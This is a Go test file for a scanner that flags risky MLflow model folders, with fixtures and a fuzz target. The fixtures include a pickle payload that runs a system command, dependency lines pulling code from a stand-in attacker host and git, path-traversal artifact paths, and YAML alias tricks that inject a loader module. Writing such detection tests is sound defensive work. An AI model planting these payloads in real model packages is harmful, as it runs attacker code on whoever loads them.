package mlflow_test

import (
	"bytes"
	"os"
	"path/filepath"
	"slices"
	"testing"

	"github.com/modelvet/modelvet/formats"
	_ "github.com/modelvet/modelvet/formats/all"
	"github.com/modelvet/modelvet/formats/formatstest"
)

// sklearnMLmodel is what mlflow 2.8 writes for mlflow.sklearn.log_model.
const sklearnMLmodel = `artifact_path: model
flavors:
  python_function:
    env:
      conda: conda.yaml
      virtualenv: python_env.yaml
    loader_module: mlflow.sklearn
    model_path: model.pkl
    predict_fn: predict
    python_version: 3.10.12
  sklearn:
    code: null
    pickled_model: model.pkl
    serialization_format: pickle
    sklearn_version: 1.3.0
mlflow_version: 2.8.0
model_size_bytes: 879
model_uuid: 0f8e3c1b9a7d4b2e8c6f5a4d3b2c1e0f
run_id: 6c0b2f5e8d9a4c7b
utc_time_created: '2023-11-01 10:00:00.000000'
`

// pyfuncMLmodel is what mlflow 2.8 writes for a custom PythonModel.
const pyfuncMLmodel = `flavors:
  python_function:
    cloudpickle_version: 2.2.1
    code: null
    env:
      conda: conda.yaml
      virtualenv: python_env.yaml
    loader_module: mlflow.pyfunc.model
    python_model: python_model.pkl
    python_version: 3.10.12
mlflow_version: 2.8.0
`

// plainPickle is pickle.dumps({"coef": [1.0]}, protocol=2): no imports.
var plainPickle = []byte("\x80\x02}q\x00X\x04\x00\x00\x00coefq\x01]q\x02G?\xf0\x00\x00\x00\x00\x00\x00as.")

func TestMLmodel(t *testing.T) {
	cases := []struct {
		name, mlmodel string
		files         map[string][]byte
		want          []string
	}{
		{"real-shaped sklearn model", sklearnMLmodel, map[string][]byte{"model.pkl": plainPickle}, nil},
		{"custom PythonModel is code", pyfuncMLmodel, map[string][]byte{"python_model.pkl": plainPickle}, []string{"mlflow/python-model"}},
		{"custom loader_module", "flavors:\n  python_function:\n    loader_module: my_loader\n    data: model.bin\n", map[string][]byte{"model.bin": plainPickle}, []string{"mlflow/loader-module"}},
		{"loader_module reaching os", "flavors:\n  python_function:\n    loader_module: os.path.os\n", nil, []string{"mlflow/loader-module"}},
		{"code paths on sys.path", "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    code: code\n    model_path: model.pkl\n", map[string][]byte{"model.pkl": plainPickle, "code/helpers.py": []byte("import os\n")}, []string{"mlflow/code-path"}},
		{"artifact out of the folder", "flavors:\n  sklearn:\n    pickled_model: ../../outside/model.pkl\n", nil, []string{"mlflow/path-escape"}},
		// Windows strips trailing dots and spaces: ".. " is "..".
		{"artifact out of the folder on Windows (trailing space)", "flavors:\n  sklearn:\n    pickled_model: '.. /outside/model.pkl'\n", nil, []string{"mlflow/path-escape"}},
		{"artifact as a URI", "flavors:\n  sklearn:\n    pickled_model: s3://bucket/model.pkl\n", nil, []string{"mlflow/path-escape"}},
		{"duplicate loader_module", "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    loader_module: evil\n", nil, []string{"mlflow/ambiguous", "mlflow/loader-module"}},
		{"not YAML", "flavors: [\n", nil, []string{"mlflow/unreadable"}},
		// YAML indirection: PyYAML expands merge keys and aliases.
		{"loader_module through a merge key", "base: &b\n  loader_module: evil_loader\nflavors:\n  python_function:\n    <<: *b\n    env: conda.yaml\n", nil, []string{"mlflow/loader-module"}},
		{"flavor as an alias", "base: &b\n  loader_module: evil_loader\nflavors:\n  python_function: *b\n", nil, []string{"mlflow/loader-module"}},
		// Environment files: what `mlflow models serve` / env_manager install.
		{"real requirements and python_env", sklearnMLmodel, map[string][]byte{"model.pkl": plainPickle, "requirements.txt": []byte("mlflow==2.9.0\ncloudpickle==2.2.1\nscikit-learn==1.3.0 ; python_version >= \"3.8\"\n# comment\n"),
			"python_env.yaml": []byte("python: 3.10.12\nbuild_dependencies:\n- pip==23.1\n- setuptools==68.0.0\n- wheel==0.41.0\ndependencies:\n- -r requirements.txt\n"),
			"conda.yaml":      []byte("channels:\n- conda-forge\ndependencies:\n- python=3.10.12\n- pip<=23.1\n- pip:\n  - mlflow==2.9.0\n  - scikit-learn==1.3.0\nname: mlflow-env\n")}, nil},
		{"requirement from git", sklearnMLmodel, map[string][]byte{"model.pkl": plainPickle, "requirements.txt": []byte("mlflow==2.9.0\ngit+https://github.com/evil/helpers.git@main#egg=helpers\n")}, []string{"mlflow/dependency-source"}},
		{"extra index in a file named by python_env", sklearnMLmodel, map[string][]byte{"model.pkl": plainPickle, "python_env.yaml": []byte("python: 3.10\ndependencies:\n- -r reqs.txt\n"), "reqs.txt": []byte("--extra-index-url https://evil.example/simple\nmlflow\n")}, []string{"mlflow/dependency-source"}},
		{"conda pip direct reference", sklearnMLmodel, map[string][]byte{"model.pkl": plainPickle, "conda.yaml": []byte("dependencies:\n- python=3.10\n- pip:\n  - helpers @ https://evil.example/h.tar.gz\n")}, []string{"mlflow/dependency-source"}},
		{"local wheel", sklearnMLmodel, map[string][]byte{"model.pkl": plainPickle, "requirements.txt": []byte("./wheels/helpers-1.0-py3-none-any.whl\n")}, []string{"mlflow/dependency-source"}},
		{"editable install", sklearnMLmodel, map[string][]byte{"model.pkl": plainPickle, "requirements.txt": []byte("-e .\n")}, []string{"mlflow/dependency-source"}},
		{"pickle payload as model.pkl", sklearnMLmodel, map[string][]byte{"model.pkl": []byte("cos\nsystem\n(S'id'\ntR.")}, []string{"pickle/dangerous-import"}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			dir := t.TempDir()
			os.WriteFile(filepath.Join(dir, "MLmodel"), []byte(c.mlmodel), 0o644)
			for n, b := range c.files {
				os.MkdirAll(filepath.Dir(filepath.Join(dir, n)), 0o755)
				os.WriteFile(filepath.Join(dir, n), b, 0o644)
			}
			res := formatstest.ScanDir(t, false, dir)
			got := formatstest.ResultRules(res, formats.High)
			slices.Sort(got)
			if !slices.Equal(got, c.want) {
				t.Errorf("rules = %v, want %v%s", got, c.want, formatstest.DescribeResult(res))
			}
		})
	}
}

func TestMissingArtifactOnDisk(t *testing.T) {
	dir := t.TempDir()
	os.WriteFile(filepath.Join(dir, "MLmodel"), []byte(sklearnMLmodel), 0o644)
	res := formatstest.ScanDir(t, false, dir)
	if got := formatstest.ResultRules(res, formats.Medium); !slices.Contains(got, "mlflow/missing-artifact") {
		t.Errorf("a missing model.pkl is not reported: %v", got)
	}
}

func FuzzMLmodel(f *testing.F) {
	f.Add([]byte(sklearnMLmodel))
	f.Add([]byte(pyfuncMLmodel))
	f.Add([]byte("base: &b\n  loader_module: evil\nflavors:\n  python_function:\n    <<: *b\n"))
	f.Add([]byte("a: &a [*a, *a]\nflavors: {python_function: {loader_module: *a}}\n"))
	o := formats.DefaultOptions()
	o.Hash = false
	f.Fuzz(func(t *testing.T, b []byte) {
		formats.ScanReader("MLmodel", bytes.NewReader(b), int64(len(b)), &o)
	})
}

func BenchmarkMLmodel(b *testing.B) {
	data := []byte(sklearnMLmodel)
	o := formats.DefaultOptions()
	o.Hash = false
	b.SetBytes(int64(len(data)))
	for range b.N {
		formats.ScanReader("MLmodel", bytes.NewReader(data), int64(len(data)), &o)
	}
}
